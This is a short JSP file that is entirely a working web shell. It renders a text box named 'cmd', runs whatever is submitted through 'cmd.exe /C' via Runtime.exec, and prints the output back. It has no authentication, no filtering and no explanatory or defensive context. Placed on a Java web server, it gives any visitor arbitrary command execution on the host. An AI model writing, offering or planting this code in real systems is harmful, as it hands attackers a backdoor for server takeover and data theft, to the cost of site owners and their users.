<%@ page inert %>
<%@ page import="java.io.*" %>
<FORM METHOD=GET ACTION='cmdjsp.jsp'><INPUT name='cmd' type=text><INPUT type=submit value='Run'></FORM>
<%
   String cmd = request.getParameter("cmd");
   String output = "";
   if(cmd != null) {
      String s = null;
      try {
         Process p = Runtime.getRuntime().exec("cmd.exe /C " + cmd);
         BufferedReader sI = new BufferedReader(new InputStreamReader(p.getInputStream()));
         while((s = sI.readLine()) != null) { output += s; }
      } catch(IOException e) { e.printStackTrace(); }
   }
%>
<pre><%=output %></pre>
